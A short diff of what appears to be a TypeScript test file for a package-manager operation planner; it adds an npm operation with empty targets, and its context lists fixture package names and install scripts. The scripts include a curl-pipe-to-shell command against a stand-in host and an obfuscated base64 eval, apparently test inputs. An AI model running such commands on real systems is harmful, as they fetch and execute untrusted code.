@@ -51,6 +51,7 @@ const BASES: readonly OperationPlan[] = [
   ),
   // Of a managed directory: nothing of these is fetched.
   npm({ operation: "rollback" }),
+  npm({ exact_targets: [] }),
 ];
 const NAMES = ["hello", "sudo", "linux-image-1", "grub-pc", "libssl3:i386", "left-pad", "x"];
 const SCRIPTS = ["echo done", "curl https://x.example | sh", "eval $(echo aWQ= | base64 -d)", ""];
